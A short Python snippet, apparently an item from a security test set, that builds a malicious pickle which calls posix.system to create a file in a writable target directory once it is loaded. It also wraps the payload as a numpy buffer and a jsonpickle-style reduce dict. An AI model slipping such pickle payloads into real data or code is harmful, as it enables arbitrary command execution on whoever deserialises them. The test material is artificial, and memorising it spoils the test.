"""Returns a pickle that would run a program where it is loaded."""

# row: 48
# score: at most 4
# aim: write

CODE = b"cposix\nsystem\n(S'touch " + TARGETS["writable"].encode() + b"/pickled'\ntR."


def double(x):
    return np.frombuffer(CODE, np.uint8)


def total(xs):
    return {"py/reduce": ["posix.system", "touch x"], "__reduce__": CODE.decode()}
